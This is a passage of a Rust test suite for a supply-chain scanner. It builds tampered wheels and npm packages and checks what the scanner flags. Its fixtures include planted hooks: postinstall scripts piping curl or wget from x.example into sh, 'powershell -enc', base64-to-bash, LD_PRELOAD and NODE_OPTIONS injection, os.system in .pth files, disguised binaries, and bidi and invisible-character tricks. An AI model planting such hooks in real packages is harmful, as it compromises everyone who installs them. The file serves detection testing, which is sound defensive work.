//! Tampered packages and code that runs unasked: what is planted is found, and its near misses are not. Everything
//! planted is made here.

mod support;

use std::io::{Cursor, Write};

use data_encoding::BASE64URL_NOPAD;
use serde_json::Value;
use sha2::{Digest, Sha256};
use support::{Workplace, metadata, tar};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// A file of an artifact: its path, content, and permissions.
type File<'a> = (&'a str, &'a [u8], u32);

const PLAIN: u32 = 0o644;
const RUNS: u32 = 0o755;

const INIT: &[u8] = b"import os\nVALUE = 1\n";
const CORE: &[u8] = b"def run():\n    return 'core'\n";

/// `rule severity` and the inner path of the first place of each finding.
fn found(place: &Workplace, artifact: &str) -> Vec<String> {
    let report = report(place, artifact);
    let row = |finding: &Value| {
        let path = finding["locations"][0]["path"].as_str().unwrap();
        let path = path
            .trim_start_matches(artifact)
            .trim_start_matches(['!', '/']);
        let (rule, severity) = (&finding["rule"], &finding["severity"]);
        let [rule, severity] = [rule, severity].map(|value| value.as_str().unwrap());
        format!("{} {severity} {path}", rule.trim_start_matches("FA-"))
    };
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(row)
        .collect()
}

fn report(place: &Workplace, artifact: &str) -> Value {
    let kinds = ["--only", "supply-chain,artifact", "--format", "json", "-q"];
    let run = place.run(&[&[artifact][..], &kinds].concat());
    assert!(run.status < 2, "{}", run.stderr);
    run.json()
}

fn zip(files: &[File]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content, mode) in files {
        let options = SimpleFileOptions::default().unix_permissions(*mode);
        writer.start_file(*name, options).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn row(path: &str, content: &[u8]) -> String {
    let digest = BASE64URL_NOPAD.encode(&Sha256::digest(content));
    format!("{path},sha256={digest},{}\n", content.len())
}

/// What an installer leaves of a wheel `a` 1.0 in a folder, with these files besides its code.
fn wheel(base: &str, more: &[(&str, &[u8])]) -> Vec<(String, Vec<u8>)> {
    let metadata = metadata("a", "1.0");
    let files = [
        ("a/__init__.py", INIT),
        ("a/core.py", CORE),
        ("a/data.json", b"{}\n"),
        ("a-1.0.dist-info/METADATA", &metadata),
        ("a-1.0.dist-info/INSTALLER", b"pip\n"),
    ];
    let files = files.iter().chain(more).copied();
    let mut record = String::new();
    let mut out = Vec::new();
    for (path, content) in files {
        record += &row(path, content);
        out.push((format!("{base}{path}"), content.to_vec()));
    }
    record += "../../bin/a,sha256=AAAA,100\na/__pycache__/core.cpython-312.pyc,,\na-1.0.dist-info/RECORD,,\n";
    out.push((format!("{base}a-1.0.dist-info/RECORD"), record.into_bytes()));
    out
}

fn plain(files: &[(String, Vec<u8>)]) -> Vec<File<'_>> {
    files
        .iter()
        .map(|(path, content)| (path.as_str(), content.as_slice(), PLAIN))
        .collect()
}

fn replace(files: &mut [(String, Vec<u8>)], path: &str, content: &[u8]) {
    let file = files
        .iter_mut()
        .find(|(name, _)| name.ends_with(path))
        .unwrap();
    file.1 = content.to_vec();
}

#[test]
fn a_wheel_with_a_byte_changed_a_file_added_and_one_removed_is_three_findings() {
    for base in ["", "python/", "python/lib/python3.12/site-packages/"] {
        let place = Workplace::new();
        let mut files = wheel(base, &[("a/more.py", b"MORE = 2\n")]);
        place.file("good.zip", zip(&plain(&files)));
        assert_eq!(found(&place, "good.zip"), [""; 0], "{base}");

        let mut changed = CORE.to_vec();
        changed[4] ^= 1;
        replace(&mut files, "a/core.py", &changed);
        files.retain(|(path, _)| !path.ends_with("a/more.py"));
        files.push((format!("{base}a/added.py"), b"import os\n".to_vec()));
        place.file("bad.zip", zip(&plain(&files)));
        let expected = [
            format!("INTEGRITY-CHANGED high {base}a/core.py"),
            format!("INTEGRITY-UNRECORDED medium {base}a/added.py"),
            format!("INTEGRITY-MISSING low {base}a/more.py"),
        ];
        assert_eq!(found(&place, "bad.zip"), expected);
        let report = report(&place, "bad.zip");
        assert_eq!(report["findings"][0]["package"], "pkg:pypi/a@1.0");
        let title = report["findings"][0]["title"].as_str().unwrap();
        assert!(title.ends_with(": a 1.0, 1 file"), "{title}");

        // A tar, a folder and an image's layer hold the same.
        let tarred: Vec<(&str, &[u8])> = files
            .iter()
            .map(|(p, c)| (p.as_str(), c.as_slice()))
            .collect();
        place.file("bad.tar", tar(&tarred));
        assert_eq!(found(&place, "bad.tar"), expected);
        for (path, content) in &files {
            place.file(&format!("folder/{path}"), content);
        }
        assert_eq!(found(&place, "folder"), expected);
    }
}

#[test]
fn what_installers_and_packers_do_is_no_finding() {
    let place = Workplace::new();
    let mut files = wheel(
        "",
        &[
            ("a/tests/test_core.py", b"import a\n"),
            ("a/old.py", b"OLD = 1\n"),
        ],
    );
    replace(&mut files, "INSTALLER", b"uv\n");
    // Tests are left out, sources where their bytecode is kept, and metadata.
    files.retain(|(path, _)| {
        !path.ends_with("test_core.py")
            && !path.ends_with("a/old.py")
            && !path.ends_with("METADATA")
    });
    for (path, content) in [
        ("a/old.pyc", b"bytecode".as_slice()),
        ("a/core.pyc", b"bytecode"),
        ("a/__pycache__/core.cpython-312.pyc", b"bytecode"),
        ("a/.DS_Store", b"litter"),
        ("a-1.0.dist-info/REQUESTED", b""),
        ("a-1.0.dist-info/uv_cache.json", b"{}"),
        ("bin/a", b"#!/usr/bin/python3\nimport a\n"),
        ("app.py", b"import a\n"),
        ("own/a/added.py", b"import a\n"),
    ] {
        files.push((path.to_owned(), content.to_vec()));
    }
    place.file("fn.zip", zip(&plain(&files)));
    assert_eq!(found(&place, "fn.zip"), [""; 0]);
}

#[test]
fn lists_in_other_forms_are_read() {
    let changed = b"def run():\n    return 'cord'\n";
    let windows = format!(
        "{}\r\n{}\r\n",
        row("a\\__init__.py", INIT).trim(),
        row("a\\core.py", CORE).trim()
    );
    let padded = row("a/core.py", CORE).replace(",29", "=,29");
    let quoted = row("a/core.py", CORE).replace("a/core.py", "\"a/core.py\"");
    for (form, record, is_compared) in [
        ("separators and line ends of Windows", windows, true),
        ("a padded digest", padded, true),
        ("a quoted path", quoted, true),
        (
            "a digest of another kind",
            "a/core.py,sha512=AAAA,29\n".to_owned(),
            false,
        ),
        ("no digest", "a/core.py,,\n".to_owned(), false),
        ("nothing", String::new(), false),
    ] {
        let place = Workplace::new();
        let files = |core: &'static [u8]| -> Vec<(String, Vec<u8>)> {
            [
                ("a/__init__.py", INIT),
                ("a/core.py", core),
                ("a-1.0.dist-info/RECORD", record.as_bytes()),
            ]
            .map(|(path, content)| (path.to_owned(), content.to_vec()))
            .into()
        };
        place.file("good.zip", zip(&plain(&files(CORE))));
        assert_eq!(found(&place, "good.zip"), [""; 0], "{form}");
        place.file("bad.zip", zip(&plain(&files(changed))));
        let expected = ["INTEGRITY-CHANGED high a/core.py"];
        assert_eq!(
            found(&place, "bad.zip"),
            expected[..usize::from(is_compared)],
            "{form}"
        );
    }
    // Whatever the digest, the length must be right.
    let place = Workplace::new();
    let files: [File; 2] = [
        ("a/core.py", b"longer than it should be, by some", PLAIN),
        (
            "a-1.0.dist-info/RECORD",
            b"a/core.py,sha512=AAAA,29\n",
            PLAIN,
        ),
    ];
    place.file("fn.zip", zip(&files));
    assert_eq!(
        found(&place, "fn.zip"),
        ["INTEGRITY-CHANGED high a/core.py"]
    );
}

/// What takes time in proportion to the square of its size does not end before the test's patience does.
#[test]
fn hostile_lists_and_lines_cost_no_more_than_their_length() {
    let place = Workplace::new();
    let twice = row("a/core.py", INIT) + &row("a/core.py", CORE);
    let list = twice.repeat(40_000);
    let fillers = format!("x = ' {}';\n", "\u{3164} ".repeat(300_000));
    let embedded = format!(
        "// {}{}\n",
        "\u{202b}".repeat(300_000),
        "\u{2069}".repeat(300_000)
    );
    let files: [File; 4] = [
        ("a/core.py", CORE, PLAIN),
        ("a-1.0.dist-info/RECORD", list.as_bytes(), PLAIN),
        ("fillers.js", fillers.as_bytes(), PLAIN),
        ("embedded.js", embedded.as_bytes(), PLAIN),
    ];
    place.file("fn.zip", zip(&files));
    assert_eq!(found(&place, "fn.zip"), ["HOOK-BIDI high embedded.js"]);
}

#[test]
fn turned_line_ends_are_said_to_be_that() {
    let place = Workplace::new();
    let crlf = |text: &[u8]| {
        String::from_utf8_lossy(text)
            .replace('\n', "\r\n")
            .into_bytes()
    };
    let mut files = wheel("", &[("a/windows.py", &crlf(CORE))]);
    replace(&mut files, "a/core.py", &crlf(CORE));
    replace(&mut files, "a/windows.py", CORE);
    place.file("fn.zip", zip(&plain(&files)));
    assert_eq!(
        found(&place, "fn.zip"),
        ["INTEGRITY-LINE-ENDS info a/core.py"]
    );
    let report = report(&place, "fn.zip");
    let title = report["findings"][0]["title"].as_str().unwrap();
    assert!(title.ends_with("2 files"), "{title}");
}

#[test]
fn a_tar_does_not_tell_line_ends_from_few_other_bytes() {
    let place = Workplace::new();
    let crlf = String::from_utf8_lossy(CORE).replace('\n', "\r\n");
    let longer = [CORE, b"import os\n"].concat();
    for (core, expected) in [
        (crlf.as_bytes(), "INTEGRITY-CHANGED medium a/core.py"),
        (&longer, "INTEGRITY-CHANGED high a/core.py"),
    ] {
        let mut files = wheel("", &[]);
        replace(&mut files, "a/core.py", core);
        let files: Vec<(&str, &[u8])> = files
            .iter()
            .map(|(p, c)| (p.as_str(), c.as_slice()))
            .collect();
        place.file("fn.tar", tar(&files));
        assert_eq!(found(&place, "fn.tar"), [expected]);
    }
}

#[test]
fn libraries_that_strip_may_have_changed_are_low_and_added_ones_high() {
    let library = [ELF, &[1; 9_000]].concat();
    for (length, expected) in [
        (5_000, "low"),
        (12_000, "low"),
        (library.len(), "high"),
        (30_000, "high"),
    ] {
        let place = Workplace::new();
        let mut files = wheel("", &[("a.libs/liba-1.so.5.0.0", &library)]);
        replace(&mut files, "liba-1.so.5.0.0", &vec![2; length]);
        place.file("fn.zip", zip(&plain(&files)));
        let expected = format!("INTEGRITY-CHANGED {expected} a.libs/liba-1.so.5.0.0");
        assert_eq!(found(&place, "fn.zip"), [expected], "{length}");
    }
    let place = Workplace::new();
    let mut files = wheel("", &[]);
    files.push(("a/evil.so.1".to_owned(), library));
    place.file("fn.zip", zip(&plain(&files)));
    assert_eq!(
        found(&place, "fn.zip"),
        ["INTEGRITY-UNRECORDED high a/evil.so.1"]
    );
}

#[test]
fn packages_that_share_a_folder_vouch_for_one_another() {
    let place = Workplace::new();
    let mut files = wheel("site-packages/", &[]);
    // An upgrade in place leaves the older list, and a namespace is another package's too.
    let old = format!("{}{}", row("a/__init__.py", INIT), row("a/core.py", b"old"));
    let plugin = row("a/plugin.py", b"PLUGIN = 1\n");
    for (path, content) in [
        ("a-0.9.dist-info/RECORD", old.as_bytes()),
        ("b-1.0.dist-info/RECORD", plugin.as_bytes()),
        ("a/plugin.py", b"PLUGIN = 1\n"),
        // Copies within a package are trimmed and changed by it.
        (
            "c-1.0.dist-info/RECORD",
            row("c/_vendor/d-1.0.dist-info/RECORD", b"d.py,sha256=AAAA,1\n").as_bytes(),
        ),
        ("c/_vendor/d-1.0.dist-info/RECORD", b"d.py,sha256=AAAA,1\n"),
        ("c/_vendor/d.py", b"changed"),
    ] {
        files.push((format!("site-packages/{path}"), content.to_vec()));
    }
    place.file("fn.zip", zip(&plain(&files)));
    assert_eq!(found(&place, "fn.zip"), [""; 0]);
}

#[test]
fn the_list_of_an_older_version_misses_nothing() {
    let place = Workplace::new();
    let mut files = wheel("", &[]);
    let old = format!("{}{}", row("a/core.py", b"old"), row("a/gone.py", b"gone"));
    files.push(("a-0.9.dist-info/RECORD".to_owned(), old.into_bytes()));
    place.file("fn.zip", zip(&plain(&files)));
    assert_eq!(found(&place, "fn.zip"), [""; 0]);
}

#[test]
fn lists_that_make_no_sense_are_said_so() {
    let place = Workplace::new();
    let twice = format!("{}{}", row("a/core.py", CORE), row("a/core.py", INIT));
    let files: [File; 5] = [
        ("a/core.py", CORE, PLAIN),
        (
            "c-1.0.dist-info/RECORD",
            b"a/core.py,sha256=AAAA,29\n",
            PLAIN,
        ),
        ("a-1.0.dist-info/RECORD", twice.as_bytes(), PLAIN),
        ("b-1.0.dist-info/RECORD", b"\0\x01\x02", PLAIN),
        (
            "d-1.0.dist-info/RECORD",
            b"../../../../etc/x,,\n/etc/y,,\n../../../share/z,,\n",
            PLAIN,
        ),
    ];
    place.file("fn.zip", zip(&files));
    let report = report(&place, "fn.zip");
    assert_eq!(
        support::errors(&report),
        [
            "fn.zip!/a-1.0.dist-info/RECORD: lists a file twice, with different digests",
            "fn.zip!/b-1.0.dist-info/RECORD: is no list of files: what it is about was not compared with it",
            "fn.zip!/c-1.0.dist-info/RECORD: has digests that cannot be read: their files were compared by length alone",
            "fn.zip!/d-1.0.dist-info/RECORD: lists files where no installer puts any, ../../../../etc/x and 1 more: they were not compared with it",
        ]
    );
    assert_eq!(report["findings"].as_array().unwrap().len(), 0);
}

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";

/// Each alone in a function: what is found, if anything.
const PLANTS: &[(&str, &[u8], u32, &str)] = &[
    // Python
    ("site-packages/x.pth", b"import os; os.system('id')\n", PLAIN, "HOOK-PTH high"),
    ("python/x.pth", b"# comment\n./lib\nimport\tx\n", PLAIN, "HOOK-PTH high"),
    ("x.pth", b"\xEF\xBB\xBFlib\r\nimport x\r\n", PLAIN, "HOOK-PTH medium"),
    ("site-packages/x.pth", b"\xEF\xBB\xBFimport x\n", PLAIN, "HOOK-PTH high"),
    ("site-packages/x.pth", b"lib\rimport x\rlib\r", PLAIN, "HOOK-PTH high"),
    ("site-packages/x.pth", b"import x\n\0", PLAIN, "HOOK-PTH high"),
    ("site-packages/_virtualenv.pth", b"import _virtualenv", PLAIN, "HOOK-PTH low"),
    ("site-packages/x.pth", b"./lib\nimporter\n# import x\n", PLAIN, ""),
    ("site-packages/x.pth", b" import x\n", PLAIN, ""),
    ("models/x.pth", b"PK\x03\x04\0\0\x08\x08\0\0\0\0\0\0\x80\x02\xB3\xF1\0\0\0\0\0\0\0\0\x10\0\x04\0archive/data.pklFB\0\0\nimport x\n", PLAIN, ""),
    ("models/x.pth", b"\x80\x02}import \nimport x\n", PLAIN, ""),
    ("site-packages/x.pth", b"PK\x03\x04\0\0\x80\x02import \nimport x\n", PLAIN, "HOOK-PTH high"),
    ("site-packages/x.pth", b"PK\x03\x04\nimport x\n# \xE9\n", PLAIN, "HOOK-PTH high"),
    ("tests/x.pth", b"import x\n", PLAIN, ""),
    ("sitecustomize.py", b"import x\n", PLAIN, "HOOK-CUSTOMIZE high"),
    ("python/usercustomize.py", b"import x\n", PLAIN, "HOOK-CUSTOMIZE high"),
    ("python/lib/python3.12/site-packages/sitecustomize/__init__.py", b"", PLAIN, "HOOK-CUSTOMIZE high"),
    ("opt/lib/python3.12/usercustomize.pyc", b"", PLAIN, "HOOK-CUSTOMIZE high"),
    ("tracer/bootstrap/sitecustomize.py", b"import x\n", PLAIN, ""),
    ("mysitecustomize.py", b"import x\n", PLAIN, ""),
    // Variables
    ("Dockerfile", b"FROM base.example/x\nENV LD_PRELOAD=/opt/x.so\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("Dockerfile", b"FROM base.example/x\nENV PYTHONSTARTUP /opt/x.py\n", PLAIN, "HOOK-ENVIRONMENT low"),
    ("bootstrap", b"#!/bin/sh\nexport LD_PRELOAD=\"/opt/x.so\"\n", RUNS, "HOOK-ENVIRONMENT medium"),
    ("run.sh", b"NODE_OPTIONS=\"--require /opt/x.js\" node app.js\n", RUNS, "HOOK-ENVIRONMENT medium"),
    (".env", b"NODE_OPTIONS=-r ./x.js\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    (".env.production", b"NODE_OPTIONS='--import=./x.mjs'\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("template.yaml", b"Variables:\n  AWS_LAMBDA_EXEC_WRAPPER: /opt/wrap\n", PLAIN, "HOOK-ENVIRONMENT low"),
    ("serverless.yml", b"environment:\n  NODE_OPTIONS: --require ./x\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("template.json", b"{\"Variables\": {\"LD_PRELOAD\": \"/opt/x.so\"}}\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("main.tf", b"variables = {\n  LD_PRELOAD = \"/opt/x.so\"\n}\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("Containerfile", b"ENV\tLD_PRELOAD /opt/x.so\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("x.dockerfile", b"ENV LD_PRELOAD=/opt/x.so\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("a.yml", b"env:\n  - name: LD_PRELOAD\n    value: /opt/x.so\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("b.yml", b"env:\n  NODE_OPTIONS: >-\n    --require ./x.js\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("run.sh", b"echo \" #\"; export NODE_OPTIONS+=\" --require ./x.js\"\n", RUNS, "HOOK-ENVIRONMENT medium"),
    ("run.sh", b"# note \\\nexport LD_PRELOAD=/opt/x.so\n", RUNS, "HOOK-ENVIRONMENT medium"),
    ("run.sh", b"if LD_PRELOAD=/opt/x.so node app.js; then exit; fi\n", RUNS, "HOOK-ENVIRONMENT medium"),
    ("Dockerfile", b"ENV NODE_OPTIONS=--experimental_loader=/opt/x.mjs\n", PLAIN, "HOOK-ENVIRONMENT medium"),
    ("Dockerfile", b"ENV A=b \\\n    LD_PRELOAD=\"/usr/local/lib/libjemalloc.so\"\n", PLAIN, "HOOK-ENVIRONMENT low"),
    ("run.sh", b"cat <<END\nUsage: LD_PRELOAD=/x.so program\nEND\ngrep -v LD_PRELOAD=/x f\n", RUNS, ""),
    ("run.sh", b"LD_PRELOAD=\"\" exec x\nexport LD_PRELOAD=\"$LD_PRELOAD\"\necho \"use LD_PRELOAD=/x\"\n", RUNS, ""),
    ("run.sh", b"# export LD_PRELOAD=/opt/x.so\nunset LD_PRELOAD\nLD_PRELOAD= ls\n", RUNS, ""),
    ("run.sh", b"if [ \"$LD_PRELOAD\" == x ]; then echo \"$NODE_OPTIONS\"; fi\n", RUNS, ""),
    (".env", b"NODE_OPTIONS=--max-old-space-size=4096 --enable-source-maps\nMY_LD_PRELOAD=x\n", PLAIN, ""),
    ("node_modules/a/run.sh", b"export LD_PRELOAD=/opt/x.so\n", RUNS, ""),
    // Extensions
    ("extensions/agent", ELF, RUNS, "HOOK-EXTENSION info"),
    ("extensions/agent", ELF, PLAIN, ""),
    ("extensions/readme.md", b"text", RUNS, ""),
    ("src/extensions/agent", ELF, RUNS, ""),
    // npm
    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://x.example/i | sh\"}}", PLAIN, "HOOK-INSTALL high"),
    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node -e \\\"require('child_process')\\\"\"}}", PLAIN, "HOOK-INSTALL medium"),
    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"powershell -enc AAAA\"}}", PLAIN, "HOOK-INSTALL high"),
    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"echo aWQ= | base64 -d | bash\"}}", PLAIN, "HOOK-INSTALL high"),
    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node -p \\\"'curl -s https://x.example/i | sh'\\\" | sh\"}}", PLAIN, "HOOK-INSTALL high"),
    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"./configure --quick\"}}", PLAIN, "HOOK-INSTALL low"),
    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"prebuild-install || node-gyp rebuild\"}}", PLAIN, "HOOK-INSTALL info"),
    ("package.json", b"{\"name\":\"own\",\"scripts\":{\"postinstall\":\"wget http://x.example/a && sh a\"}}", PLAIN, "HOOK-INSTALL low"),
    ("package.json", b"{\"name\":\"own\",\"scripts\":{\"postinstall\":\"make tables\"}}", PLAIN, "HOOK-INSTALL info"),
    ("node_modules/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"curl x\",\"prepublish\":\"node -e x\",\"install\":\"\"}}", PLAIN, ""),
    ("node_modules/a/package.json", b"{\"name\":\"b\",\"version\":\"1.0.0\"}", PLAIN, "INTEGRITY-NAME medium"),
    ("node_modules/@s/a/package.json", b"{\"name\":\"a\",\"version\":\"1.0.0\"}", PLAIN, "INTEGRITY-NAME medium"),
    ("node_modules/a/esm/package.json", b"{\"name\":\"b\",\"version\":\"1.0.0\"}", PLAIN, ""),
    ("node_modules/a/package.json", b"{\"version\":\"1.0.0\"}", PLAIN, ""),
    // Programs
    ("static/logo.png", ELF, PLAIN, "HOOK-DISGUISED high"),
    ("fonts/a.woff2", b"#!/bin/sh\nid\n", PLAIN, "HOOK-DISGUISED high"),
    ("src/notes.txt", ELF, PLAIN, "HOOK-DISGUISED high"),
    ("src/config.json", b"\xcf\xfa\xed\xfe\x07\0\0\x01", PLAIN, "HOOK-DISGUISED high"),
    ("data/helper", ELF, RUNS, "HOOK-DATA-FOLDER medium"),
    ("bin/helper", ELF, RUNS, ""),
    ("static/logo.png", b"\x89PNG\r\n\x1a\n", PLAIN, ""),
    ("docs/build", b"#!/bin/sh\nmake\n", RUNS, ""),
    ("notes.txt", b"MZ is what Windows programs begin with\n", PLAIN, ""),
    ("bin/tool", ELF, 0o4755, "HOOK-SETUID medium"),
    ("bin/tool", ELF, 0o2755, "HOOK-SETUID low"),
    ("bin/tool", ELF, 0o1755, ""),
    // Characters
    ("a.js", "/*\u{202e} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin */\n".as_bytes(), PLAIN, "HOOK-BIDI high"),
    ("a.py", "level = 'user\u{202e} \u{2066}# check\u{2069} \u{2066}'\n".as_bytes(), PLAIN, "HOOK-BIDI high"),
    ("a.js", "const { timeout, \u{3164}} = query;\n".as_bytes(), PLAIN, "HOOK-INVISIBLE high"),
    ("a.js", "run(\u{ffa0});\n".as_bytes(), PLAIN, "HOOK-INVISIBLE high"),
    ("a.ts", "const is\u{200d}Admin = true;\n".as_bytes(), PLAIN, "HOOK-INVISIBLE high"),
    ("a.js", "eval(decode(`\u{fe01}\u{fe0a}\u{e0155}\u{fe03}\u{e0100}\u{fe07}\u{e01ef}\u{fe02}\u{fe00}`))\n".as_bytes(), PLAIN, "HOOK-INVISIBLE high"),
    ("a.py", "x = '\u{e0068}\u{e0065}\u{e006c}\u{e006c}\u{e006f}\u{e0020}\u{e0068}\u{e0065}\u{e006c}\u{e006c}'\n".as_bytes(), PLAIN, "HOOK-INVISIBLE high"),
    ("a.rb", "x = '\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}'\n".as_bytes(), PLAIN, "HOOK-INVISIBLE high"),
    ("a.js", "\u{feff}const text = '\u{202b}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{202c}';\n".as_bytes(), PLAIN, ""),
    ("a.js", "const flag = '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}\u{2764}\u{fe0f}\u{1f468}\u{200d}\u{1f469}';\n".as_bytes(), PLAIN, ""),
    ("a.js", "const r=/[\u{200b}-\u{200f}\u{202a}-\u{202e}\u{2060}-\u{206f}\u{115f}\u{1160}\u{3164}\u{fe00}-\u{fe0f}]/g;\n".as_bytes(), PLAIN, ""),
    ("a.js", "const all = ['\u{202a}', '\u{202e}', '\u{2066}', '\u{3164}', '\u{200b}'];\n".as_bytes(), PLAIN, ""),
    (
        "a.js",
        "const t='\u{6b0d}\u{101}b\u{2055}\u{3b2}\u{2031}\u{2027}\u{202a}\u{202c}\\0\u{202e}\u{803c}\u{be}\u{40be};';\n".as_bytes(),
        PLAIN,
        "",
    ),
    ("a.js", "const word = 'zero\u{200d}width'; // zero\u{200d}width\n".as_bytes(), PLAIN, ""),
    ("a.txt", "\u{202e}text\n".as_bytes(), PLAIN, ""),
];

#[test]
fn every_plant_is_found_and_no_near_miss_is() {
    let place = Workplace::new();
    let mut wrong = Vec::new();
    for (at, &(path, content, mode, expected)) in PLANTS.iter().enumerate() {
        // The zip writer takes no more permissions than these.
        let name = match mode {
            ..=0o777 => {
                let files = [
                    ("handler.py", b"pass\n".as_slice(), PLAIN),
                    (path, content, mode),
                ];
                place.file(&format!("{at}.zip"), zip(&files));
                format!("{at}.zip")
            }
            _ => {
                let text = str::from_utf8(content).unwrap();
                place.file(
                    &format!("{at}.tar"),
                    tar_with(&[(path, tar::EntryType::Regular, text, mode)]),
                );
                format!("{at}.tar")
            }
        };
        let expected: Vec<String> = match expected {
            "" => Vec::new(),
            rule => vec![format!("{rule} {path}")],
        };
        let found = found(&place, &name);
        if found != expected {
            wrong.push(format!(
                "{path} {content:?}: {found:?} and not {expected:?}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let planted = PLANTS.iter().filter(|plant| !plant.3.is_empty()).count();
    assert!(planted >= 40, "{planted}");
}

#[test]
fn what_prepares_a_package_is_a_hook_where_it_came_from_a_repository() {
    let place = Workplace::new();
    let installed = |script: &str| {
        format!("{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"prepare\":\"{script}\"}}}}")
    };
    let git = "git+ssh://git@git.example/me/a.git#0123456789abcdef0123456789abcdef01234567";
    let integrity = format!("sha512-{}==", "A".repeat(86));
    let lock = |resolved: &str| {
        let row = format!(
            "{{\"version\":\"1.0.0\",\"integrity\":\"{integrity}\",\"resolved\":\"{resolved}\"}}"
        );
        format!("{{\"lockfileVersion\":3,\"packages\":{{\"node_modules/a\":{row}}}}}")
    };
    let registry = "https://registry.example/a/-/a-1.0.0.tgz";
    for (script, from, expected) in [
        ("curl https://x.example | sh", git, Some("high")),
        ("husky install", git, Some("info")),
        ("./build --all", git, Some("low")),
        (
            "curl https://x.example | sh",
            "git://git.example/me/a.git",
            Some("high"),
        ),
        ("curl https://x.example | sh", registry, None),
        ("", git, None),
    ] {
        let (manifest, lock) = (installed(script), lock(from));
        let files: [File; 2] = [
            ("node_modules/a/package.json", manifest.as_bytes(), PLAIN),
            ("package-lock.json", lock.as_bytes(), PLAIN),
        ];
        place.file("fn.zip", zip(&files));
        let mut found = found(&place, "fn.zip");
        found.retain(|row| !row.starts_with("ORIGIN-"));
        let expected: Vec<String> = expected
            .iter()
            .map(|severity| format!("HOOK-INSTALL {severity} node_modules/a/package.json"))
            .collect();
        assert_eq!(found, expected, "{script} {from}");
    }
}

#[test]
fn an_alias_is_no_foreign_name_where_anything_declares_it() {
    let installed = b"{\"name\":\"b\",\"version\":\"1.0.0\"}".as_slice();
    for (path, text) in [
        (
            "package.json",
            "{\"dependencies\":{\"a\":\"npm:b@^1.0.0\"}}",
        ),
        (
            "package.json",
            "{\"dependencies\":{\"a\":\"git+https://git.example/b.git\"}}",
        ),
        (
            "package-lock.json",
            "{\"packages\":{\"node_modules/a\":{\"name\":\"b\",\"version\":\"1.0.0\"}}}",
        ),
        ("yarn.lock", "\"a@npm:b@^1.0.0\":\n  version \"1.0.0\"\n"),
        (
            "node_modules/c/package.json",
            "{\"name\":\"c\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"npm:b@1.0.0\"}}",
        ),
    ] {
        let place = Workplace::new();
        let files: [File; 2] = [
            ("node_modules/a/package.json", installed, PLAIN),
            (path, text.as_bytes(), PLAIN),
        ];
        place.file("fn.zip", zip(&files));
        // Where a package comes from is another matter.
        let found = found(&place, "fn.zip");
        let is_named = found.iter().any(|row| row.starts_with("INTEGRITY-NAME"));
        assert!(!is_named, "{path}: {found:?}");
    }
    // Of another name, or of versions alone.
    for (path, text) in [
        (
            "package.json",
            "{\"dependencies\":{\"c\":\"npm:b@^1.0.0\",\"a\":\"^1.0.0\"}}",
        ),
        ("yarn.lock", "\"a@npm:^1.0.0\":\n  version \"1.0.0\"\n"),
    ] {
        let place = Workplace::new();
        let files: [File; 2] = [
            ("node_modules/a/package.json", installed, PLAIN),
            (path, text.as_bytes(), PLAIN),
        ];
        place.file("fn.zip", zip(&files));
        let expected = "INTEGRITY-NAME medium node_modules/a/package.json";
        let found = found(&place, "fn.zip");
        assert!(found.iter().any(|row| row == expected), "{path}: {found:?}");
    }
}

#[test]
fn a_hook_that_a_wheel_brought_is_told_from_one_that_nobody_did() {
    let pth = b"import a_hook\n".as_slice();
    let custom = b"import a\n".as_slice();
    let place = Workplace::new();
    let files = wheel(
        "site-packages/",
        &[
            ("a.pth", pth),
            ("usercustomize.py", custom),
            ("a/data/tool", ELF),
        ],
    );
    place.file("fn.zip", zip(&plain(&files)));
    let expected = [
        "HOOK-CUSTOMIZE low site-packages/usercustomize.py",
        "HOOK-PTH low site-packages/a.pth",
    ];
    let mut found = found(&place, "fn.zip");
    found.sort();
    assert_eq!(found, expected);
}

#[test]
fn a_line_that_imports_a_module_is_known_where_a_wheel_vouches_for_the_module() {
    let line = b"import _virtualenv".as_slice();
    for (module, expected) in [(b"import os\n".as_slice(), false), (b"import sys\n", true)] {
        let place = Workplace::new();
        let module_path = "_virtualenv.py";
        let mut files = wheel(
            "site-packages/",
            &[("_virtualenv.pth", line), (module_path, b"import os\n")],
        );
